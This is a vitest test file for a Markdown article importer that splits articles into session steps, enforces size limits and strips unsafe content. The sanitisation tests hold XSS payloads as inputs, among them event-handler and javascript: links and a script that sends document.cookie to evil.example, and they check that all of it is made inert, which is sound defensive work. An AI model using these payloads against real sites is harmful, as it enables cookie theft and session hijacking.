// Markdown article import: headings become steps, bodies stay Markdown, long
// sections continue over several steps, and nothing from the file can become
// live HTML or an unsafe link.
import { fromMarkdown } from "mdast-util-from-markdown";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import Markdown from "react-markdown";
import { createTranslator } from "use-intl/core";
import { describe, expect, it } from "vitest";
import germanImport from "../../messages/de/articleImport.json";
import { isImportWarning } from "../../lib/markdown-import/warnings";
import { defaultContentNote, importedWords, starterResources } from "../../content/starter";
import { DEFAULT_IMPORTED_TITLE, IMPORTED_CONTENT_NOTE, importMarkdownArticle, MAX_MARKDOWN_BYTES, type MarkdownImportOptions } from "../../lib/markdown-import";
import { parseTemplateContent, TEMPLATE_LIMITS, type TemplateContent } from "../../lib/template-schema";

function imported(markdown: string, options?: MarkdownImportOptions) {
  const result = importMarkdownArticle(markdown, options);
  if (!result.ok) throw new Error(`import failed: ${JSON.stringify(result.errors)}`);
  return result;
}
const content = (markdown: string, options?: MarkdownImportOptions): TemplateContent => imported(markdown, options).content;
const titles = (c: TemplateContent) => c.steps.map((s) => s.title);

type Node = { type: string; url?: string; value?: string; children?: Node[] };
/** Every node of a re-parsed body in document order, to check what a renderer would see. */
function nodes(markdown: string): Node[] {
  const all: Node[] = [];
  const stack: Node[] = [fromMarkdown(markdown) as Node];
  while (stack.length) {
    const node = stack.pop()!;
    all.push(node);
    if (node.children) stack.push(...[...node.children].reverse());
  }
  return all;
}
const typesIn = (markdown: string) => new Set(nodes(markdown).map((n) => n.type));
const wordsOf = (text: string) => text.split(/\s+/).filter(Boolean);
const textOf = (markdown: string) =>
  nodes(markdown)
    .filter((n) => n.type === "text" || n.type === "inlineCode")
    .map((n) => n.value)
    .join(" ");

describe("Markdown import: structure", () => {
  const article = [
    "# Asking for help",
    "",
    "In a world where *self-reliance* is **celebrated**, asking can feel hard.",
    "",
    "## Why people don't ask",
    "",
    "### Fear of judgement",
    "",
    "People worry what others will think.",
    "",
    "### Pride and ego",
    "",
    "- Wanting to manage alone",
    "- Feeling you *should* cope",
    "",
    "## Conclusion",
    "",
    "It's okay to ask.",
  ].join("\n");

  it("makes the first H1 the title and every heading, nested or not, a step", () => {
    const c = content(article);
    expect(c.title).toBe("Asking for help");
    expect(titles(c)).toEqual(["Asking for help", "Why people don't ask", "Fear of judgement", "Pride and ego", "Conclusion"]);
    expect(c.steps.map((s) => s.key)).toEqual(["asking-for-help", "why-people-don-t-ask", "fear-of-judgement", "pride-and-ego", "conclusion"]);
  });

  it("keeps the text under each heading as Markdown", () => {
    const c = content(article);
    expect(c.steps[0].body).toBe("In a world where *self-reliance* is **celebrated**, asking can feel hard.");
    expect(c.steps[3].body).toBe("- Wanting to manage alone\n- Feeling you *should* cope");
    expect(typesIn(c.steps[3].body)).toContain("list");
  });

  it("keeps a heading with nothing under it as a step with an empty body", () => {
    const c = content(article);
    expect(c.steps[1]).toMatchObject({ title: "Why people don't ask", body: "" });
    expect(content("# Only a title").steps).toEqual([{ key: "only-a-title", title: "Only a title", body: "", facilitatorNotes: "", reactions: true }]);
  });

  it("turns text before the first heading into an Introduction step", () => {
    const c = content("Some words first.\n\n## Part one\n\nMore.");
    expect(titles(c)).toEqual(["Introduction", "Part one"]);
    expect(c.steps[0].body).toBe("Some words first.");
    // no H1, so the default title
    expect(c.title).toBe(DEFAULT_IMPORTED_TITLE);
  });

  it("skips an Introduction that would be empty (blank lines, comments, raw HTML only)", () => {
    expect(titles(content("\n\n<!-- draft -->\n<div></div>\n\n# Start\n\nText."))).toEqual(["Start"]);
  });

  it("makes a single step of an article without headings, and says so", () => {
    const result = imported("Just one paragraph.\n\nAnd another.");
    expect(titles(result.content)).toEqual(["Introduction"]);
    expect(result.content.steps[0].body).toBe("Just one paragraph.\n\nAnd another.");
    expect(result.warnings.map((w) => w.message).join(" ")).toMatch(/no headings/);
  });

  it("uses the title option over the H1, and the front matter title when there is no H1", () => {
    expect(content(article, { title: "Workshop: help" }).title).toBe("Workshop: help");
    const result = imported('---\ntitle: "From front matter"\ndate: 2024-01-01\n---\n## Part\n\nText.');
    expect(result.content.title).toBe("From front matter");
    expect(titles(result.content)).toEqual(["Part"]); // "title: …\n---" did not become a heading
    expect(result.warnings.map((w) => w.message).join(" ")).toMatch(/front matter/);
  });

  it("handles setext headings, empty headings and repeated titles", () => {
    const c = content("Part one\n========\n\nA.\n\nNotes\n-----\n\nB.\n\n##\n\nC.\n\n## Notes\n\nD.");
    expect(titles(c)).toEqual(["Part one", "Notes", "Untitled section", "Notes"]);
    expect(c.steps.map((s) => s.key)).toEqual(["part-one", "notes", "untitled-section", "notes-2"]);
  });

  it("derives slug keys from any script, falling back to a generic key", () => {
    const c = content("# Café crème\n\n# 助けを求める\n\n# 助けを求める");
    expect(c.steps.map((s) => s.key)).toEqual(["cafe-creme", "section", "section-2"]);
  });

  it("fills in the content note and placeholder resources, and adds no prompts", () => {
    const c = content(article);
    expect(c.schemaVersion).toBe(1);
    expect(c.contentNote).toBe(IMPORTED_CONTENT_NOTE);
    expect(c.contentNote).toMatch(/pass/);
    expect(c.resources).toEqual(starterResources("en"));
    c.resources.items[0].label = "Edited";
    expect(starterResources("en").items[0].label).not.toBe("Edited"); // a copy: editing it cannot change the starter card
    expect(c.description).toMatch(/add prompts in the editor/);
    expect(c.steps.every((s) => s.prompt === undefined && s.reactions && s.facilitatorNotes === "")).toBe(true);
    expect(parseTemplateContent(c)).toEqual({ ok: true, content: c });
  });

  it("keeps lists, quotes, code, links and line breaks as Markdown a renderer understands", () => {
    const body = content(
      [
        "# Formatting",
        "",
        "A [link](https://example.org/a_(b)) and `code` and a hard  ",
        "break.",
        "",
        "1. one",
        "2. two",
        "",
        "> quoted *text*",
        "",
        "```js",
        "const x = 1;",
        "```",
        "",
        "Reach us at <mailto:help@example.org> or [call](tel:+10000000000).",
      ].join("\n"),
    ).steps[0].body;
    const types = typesIn(body);
    for (const type of ["link", "inlineCode", "break", "list", "blockquote", "emphasis", "code"]) expect(types, type).toContain(type);
    const urls = nodes(body)
      .filter((n) => n.type === "link")
      .map((n) => n.url);
    expect(urls).toEqual(["https://example.org/a_%28b%29", "mailto:help@example.org", "tel:+10000000000"]);
  });

  it("keeps text that merely looks like Markdown as text", () => {
    const body = content("# T\n\n\\# not a heading\n\n1\\. not a list\n\n\\- not a bullet\n\na \\*b\\* \\[c\\](d) \\`e\\`").steps[0].body;
    expect([...typesIn(body)].sort()).toEqual(["paragraph", "root", "text"]);
    expect(textOf(body)).toBe("# not a heading 1. not a list - not a bullet a *b* [c](d) `e`");
  });

  it("keeps two separate lists separate", () => {
    const body = content("# T\n\n- a\n- b\n\n<!-- -->\n\n- c").steps[0].body;
    expect(nodes(body).filter((n) => n.type === "list")).toHaveLength(2);
  });

  it("resolves reference links and keeps only the text of relative ones", () => {
    const result = imported("# T\n\nSee [the guide][g] and [the page](/about).\n\n[g]: https://example.org/guide");
    expect(result.content.steps[0].body).toBe("See [the guide](https://example.org/guide) and the page.");
    expect(result.warnings.map((w) => w.message).join(" ")).toMatch(/1 link/);
  });

  it("replaces images with their description", () => {
    const result = imported("# T\n\n![A cat asleep](https://tracker.example/cat.png) and ![](https://x.example/y.png)");
    expect(result.content.steps[0].body).toBe("(image: A cat asleep) and");
    expect(typesIn(result.content.steps[0].body)).not.toContain("image");
    expect(result.warnings.map((w) => w.message).join(" ")).toMatch(/2 images/);
  });
});

describe("Markdown import: length limits", () => {
  const paragraph = (n: number) => `Paragraph ${n}: ${"calm warm words ".repeat(20).trim()}.`;

  it("continues a long section over '(continued)' steps instead of truncating it", () => {
    const paragraphs = Array.from({ length: 40 }, (_, i) => paragraph(i + 1));
    const markdown = `# Long part\n\n${paragraphs.join("\n\n")}\n\n# Next\n\nEnd.`;
    const result = imported(markdown);
    const long = result.content.steps.filter((s) => s.title.startsWith("Long part"));
    expect(long.length).toBeGreaterThan(1);
    expect(long.map((s) => s.title)).toEqual(["Long part", ...Array(long.length - 1).fill("Long part (continued)")]);
    expect(new Set(result.content.steps.map((s) => s.key)).size).toBe(result.content.steps.length);
    for (const step of long) expect(step.body.length).toBeLessThanOrEqual(TEMPLATE_LIMITS.body);
    // split between paragraphs, and nothing lost
    expect(long.map((s) => s.body).join("\n\n")).toBe(paragraphs.join("\n\n"));
    expect(result.content.steps.at(-1)!.title).toBe("Next");
    expect(result.warnings.map((w) => w.message).join(" ")).toMatch(/"Long part" was too long for one step/);
  });

  it("honours a smaller maxBodyChars", () => {
    const paragraphs = Array.from({ length: 6 }, (_, i) => paragraph(i + 1));
    const c = content(`# Part\n\n${paragraphs.join("\n\n")}`, { maxBodyChars: 700 });
    expect(c.steps.length).toBeGreaterThanOrEqual(3);
    for (const step of c.steps) expect(step.body.length).toBeLessThanOrEqual(700);
    expect(c.steps.map((s) => s.body).join("\n\n")).toBe(paragraphs.join("\n\n"));
  });

  it("splits one enormous paragraph at spaces, keeping every word and its formatting", () => {
    const text = Array.from({ length: 1500 }, (_, i) => (i % 50 === 0 ? `*word${i}*` : `word${i}`)).join(" ");
    const c = content(`# Wall\n\n${text}`);
    expect(c.steps.length).toBeGreaterThan(2);
    for (const step of c.steps) {
      expect(step.body.length).toBeLessThanOrEqual(TEMPLATE_LIMITS.body);
      expect([...typesIn(step.body)].sort()).toEqual(["emphasis", "paragraph", "root", "text"]);
    }
    expect(wordsOf(c.steps.map((s) => textOf(s.body)).join(" "))).toEqual(wordsOf(text.replace(/\*/g, "")));
  });

  it("splits a long list between items, and a long code block into complete code blocks", () => {
    const items = Array.from({ length: 300 }, (_, i) => `- item ${i} ${"x".repeat(20)}`);
    const list = content(`# List\n\n${items.join("\n")}`);
    expect(list.steps.length).toBeGreaterThan(1);
    for (const step of list.steps) expect(nodes(step.body).filter((n) => n.type === "list")).toHaveLength(1);
    expect(list.steps.map((s) => s.body).join("\n")).toBe(items.join("\n"));

    const lines = Array.from({ length: 400 }, (_, i) => `<script>line(${i})</script>`);
    const code = content(`# Code\n\n\`\`\`html\n${lines.join("\n")}\n\`\`\``);
    expect(code.steps.length).toBeGreaterThan(1);
    for (const step of code.steps) expect([...typesIn(step.body)].sort()).toEqual(["code", "root"]);
    expect(
      code.steps
        .flatMap((s) =>
          nodes(s.body)
            .filter((n) => n.type === "code")
            .map((n) => n.value),
        )
        .join("\n"),
    ).toBe(lines.join("\n"));
  });

  it("shortens a very long heading but keeps it whole in the body", () => {
    const heading = `A heading that goes on ${"and on ".repeat(30)}forever`;
    const result = imported(`# ${heading}\n\nText.`);
    const step = result.content.steps[0];
    expect(step.title.length).toBeLessThanOrEqual(TEMPLATE_LIMITS.title);
    expect(step.title.endsWith("…")).toBe(true);
    expect(step.body).toBe(`**${heading}**\n\nText.`);
    expect(result.warnings.map((w) => w.message).join(" ")).toMatch(/Shortened a heading/);
  });

  it(`refuses input over ${MAX_MARKDOWN_BYTES / 1000} kB before parsing it`, () => {
    const result = importMarkdownArticle("# Big\n\n" + "a".repeat(MAX_MARKDOWN_BYTES));
    expect(result).toEqual({ ok: false, errors: [{ path: "(file)", message: expect.stringMatching(/up to 200 kB/), code: "tooLarge", params: { kb: 201, max: 200 } }] });
    // bytes, not characters: multi-byte text counts at its real size
    expect(importMarkdownArticle("é".repeat(MAX_MARKDOWN_BYTES / 2 + 1)).ok).toBe(false);
  });

  it("refuses an article that would need more than 60 steps", () => {
    const sections = (n: number) => Array.from({ length: n }, (_, i) => `## Part ${i}\n\nText ${i}.`).join("\n\n");
    expect(importMarkdownArticle(sections(60)).ok).toBe(true);
    const result = importMarkdownArticle(sections(61));
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors[0]).toMatchObject({ path: "steps", message: expect.stringMatching(/at most 60 steps/) });
    expect(importMarkdownArticle("# h\n".repeat(5000)).ok).toBe(false);
  });

  it("refuses empty input", () => {
    for (const empty of ["", "   \n\n", "<!-- nothing -->"]) {
      expect(importMarkdownArticle(empty)).toEqual({ ok: false, errors: [{ path: "(file)", message: "has no text to turn into steps", code: "noText", params: {} }] });
    }
  });

  it("refuses input shaped to make the parser slow, quickly", () => {
    const started = Date.now();
    const cases = [
      "> ".repeat(5000) + "deep",
      "- ".repeat(5000) + "deep",
      "*".repeat(20000) + "a" + "*".repeat(20000),
      "[a](".repeat(20000),
      Array.from({ length: 5000 }, () => "- item").join("\n"),
      "a\n=\n".repeat(20000),
    ];
    for (const markdown of cases) {
      const result = importMarkdownArticle(markdown);
      expect(result.ok, markdown.slice(0, 20)).toBe(false);
      if (!result.ok) {
        expect(result.errors[0].message).toMatch(/deep|run of more than|links|list items|headings/);
        // said by code on the import page, in the facilitator's language (articleImport.problems)
        const { code, params } = result.errors[0];
        expect(code).toMatch(/^(tooDeep|delimiterRun|tooManyLinks|tooManyListItems|tooManyHeadings)$/);
        const de = createTranslator({ locale: "de", messages: { problems: germanImport.problems }, namespace: "problems" }) as unknown as (key: string, values: object) => string;
        expect(de(code!, params ?? {})).not.toMatch(/[{}]/);
      }
    }
    expect(Date.now() - started).toBeLessThan(5000);
  });
});

describe("Markdown import: malicious input is rendered inert", () => {
  const malicious = [
    "# Welcome <script>alert('title')</script>",
    "",
    'Hello <img src=x onerror=alert(1)> world. <a href="javascript:alert(2)">click</a>',
    "",
    "<script>",
    "fetch('https://evil.example/?c=' + document.cookie)",
    "</script>",
    "",
    '<iframe src="https://evil.example"></iframe>',
    "",
    "[Click me](javascript:alert(3)) [Or me](JAVASCRIPT:alert(4)) [data](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(5)>",
    "",
    "[ref link][evil]",
    "",
    "[evil]: javascript:alert(6)",
    "",
    "![x](javascript:alert(7)) <style>body{display:none}</style>",
    "",
    "Escaped &lt;script&gt;alert(8)&lt;/script&gt; stays text, &amp;lt;b&amp;gt; too.",
    "",
    "> <b onmouseover=alert(9)>quoted</b>",
    "",
    "- <svg onload=alert(10)>",
  ].join("\n");
  const result = imported(malicious);
  const bodies = result.content.steps.map((s) => s.body);
  const all = bodies.join("\n\n");

  it("keeps no HTML node in any body", () => {
    for (const body of bodies) expect(typesIn(body)).not.toContain("html");
    expect(all).not.toMatch(/<\s*(script|img|iframe|style|svg|a|b)\b/i);
    expect(all).not.toMatch(/onerror|onload|onmouseover/i);
  });

  it("keeps no unsafe link", () => {
    expect(all).not.toMatch(/javascript:|data:/i);
    for (const body of bodies) {
      for (const link of nodes(body).filter((n) => n.type === "link" || n.type === "image")) expect(link.url).toMatch(/^(https?:|mailto:|tel:)/);
    }
  });

  it("keeps the words, including text that only looks like HTML", () => {
    expect(result.content.title).toBe("Welcome");
    expect(all).toContain("Hello");
    expect(all).toContain("world.");
    expect(all).toContain("Click me Or me data");
    expect(all).toContain("ref link");
    expect(all).toContain("quoted");
    // entity-escaped tags in the source are text, and stay text after a round trip
    expect(textOf(bodies[0])).toContain("Escaped <script>alert(8)</script> stays text, &lt;b&gt; too.");
    expect(result.warnings.map((w) => w.message).join(" ")).toMatch(/raw HTML/);
  });

  it("renders with react-markdown to markup without scripts, handlers or unsafe links", () => {
    const html = renderToStaticMarkup(createElement(Markdown, null, all));
    expect(html).not.toMatch(/<(script|img|iframe|style|svg)\b/i);
    expect(html).not.toMatch(/\son\w+=/i);
    expect(html).not.toMatch(/javascript:|data:/i);
    expect(html).toContain("&lt;script&gt;alert(8)&lt;/script&gt;");
  });
});

describe("Markdown import: content notes", () => {
  it("makes a first line 'Content note: …' under a heading the step's own note, not its text", () => {
    const c = content("# Title\n\n## Recovery\n\nContent note: This part mentions relapse.\n\nThe text about relapse.\n\n## Plain\n\nJust text.\n");
    const recovery = c.steps.find((s) => s.title === "Recovery")!;
    expect(recovery.contentNote).toBe("This part mentions relapse.");
    expect(recovery.body).toBe("The text about relapse.");
    expect(c.steps.find((s) => s.title === "Plain")!.contentNote).toBeUndefined();
  });

  it("reads the ways people write one: bold, quoted, CW, TW, Trigger warning, any case", () => {
    for (const line of ["**Content note:** Loss.", "> Content note: Loss.", "CW: Loss.", "tw: Loss.", "Trigger warning: Loss.", "CONTENT WARNING : Loss."]) {
      const c = content(`## Part\n\n${line}\n\nText.\n`);
      expect([line, c.steps[0]!.contentNote, c.steps[0]!.body]).toEqual([line, "Loss.", "Text."]);
    }
  });

  it("leaves the label alone anywhere but the first block under a heading", () => {
    const c = content("## Part\n\nText first.\n\nContent note: too late to be a note.\n\nA sentence that says Content note: inside it.\n");
    expect(c.steps[0]!.contentNote).toBeUndefined();
    expect(c.steps[0]!.body).toContain("Content note: too late to be a note.");
  });

  it("keeps a note too long for a step's note as text, and says so", () => {
    const long = "x".repeat(TEMPLATE_LIMITS.stepContentNote + 1);
    const result = imported(`## Part\n\nContent note: ${long}\n\nText.\n`);
    expect(result.content.steps[0]!.contentNote).toBeUndefined();
    expect(result.content.steps[0]!.body).toContain(long);
    expect(result.warnings.map((w) => w.message).join(" ")).toMatch(/content note under "Part" is longer than 500 characters/);
  });

  it("keeps the note on every step a long section continues over", () => {
    const paragraphs = Array.from({ length: 6 }, (_, i) => `Paragraph ${i} ${"word ".repeat(40)}`).join("\n\n");
    const c = content(`## Long part\n\nContent note: Grief.\n\n${paragraphs}\n`, { maxBodyChars: 500 });
    expect(c.steps.length).toBeGreaterThan(1);
    expect(c.steps.map((s) => s.contentNote)).toEqual(c.steps.map(() => "Grief."));
  });

  it("adds a note at the very top of the article to the session's content note", () => {
    const c = content("Content note: This article talks about addiction.\n\n# Title\n\n## Part\n\nText.\n");
    expect(c.contentNote).toBe(`This article talks about addiction.\n\n${IMPORTED_CONTENT_NOTE}`);
    expect(c.steps.map((s) => s.title)).toEqual(["Title", "Part"]);
  });
});

describe("the import's warnings, in the facilitator's language", () => {
  it("carry a code and its values, and read the same in English as the message sent beside them", () => {
    const result = imported("<div>x</div>\n\n[a link](javascript:alert(1)) and ![](pic.png) and ![two](b.png)");
    expect(result.warnings.map((w) => [w.code, w.values])).toEqual([
      ["NO_HEADINGS", {}],
      ["RAW_HTML", { count: 1 }],
      ["IMAGES_REPLACED", { count: 2 }],
      ["LINKS_DROPPED", { count: 1 }],
    ]);
    expect(result.warnings.find((w) => w.code === "IMAGES_REPLACED")?.message).toBe("Replaced 2 images with their description: images are not shown in sessions.");
    expect(result.warnings.every(isImportWarning)).toBe(true);
    expect([null, "a string", { code: "NOT_A_CODE", values: {}, message: "x" }, { code: "RAW_HTML", message: "x" }].some(isImportWarning)).toBe(false);
    // what the editor shows a German facilitator: the same code and values, German words
    const de = createTranslator({ locale: "de", messages: { warnings: germanImport.warnings }, namespace: "warnings" }) as unknown as (code: string, values: object) => string;
    expect(result.warnings.map((w) => de(w.code, w.values))).toEqual([
      germanImport.warnings.NO_HEADINGS,
      "1 Stück HTML entfernt: Sitzungen zeigen nur Markdown-Text.",
      "2 Bilder durch ihre Beschreibung ersetzt: Sitzungen zeigen keine eingebetteten Bilder.",
      "Den Text von 1 Link behalten, aber nicht den Link selbst: Nur vollständige Web-, E-Mail- und Telefon-Links bleiben erhalten.",
    ]);
  });
});

describe("an import in the facilitator's language", () => {
  it("gives a German article German defaults: content note, support card, language and the words for what it does not say", () => {
    const long = Array.from({ length: 40 }, (_, i) => `Absatz ${i}: ${"Wort ".repeat(30)}`).join("\n\n");
    const result = importMarkdownArticle(`Vorwort ohne Überschrift.\n\n##\n\nText.\n\n## Lang\n\n${long}`, { language: "de", maxBodyChars: 1000 });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const { content } = result;
    expect(content.language).toBe("de");
    expect(content.contentNote).toBe(defaultContentNote("de"));
    expect(content.resources).toEqual(starterResources("de"));
    expect(content.title).toBe(importedWords("de").title);
    expect(content.description).toBe(importedWords("de").description);
    const titles = content.steps.map((s) => s.title);
    expect(titles.slice(0, 3)).toEqual(["Einleitung", "Abschnitt ohne Titel", "Lang"]);
    expect(titles.some((t) => t === "Lang (Fortsetzung)")).toBe(true);
    // and without a language, English as before
    const english = importMarkdownArticle("Just text.");
    expect(english.ok && [english.content.language, english.content.steps[0]?.title, english.content.title]).toEqual(["en", "Introduction", DEFAULT_IMPORTED_TITLE]);
  });
});
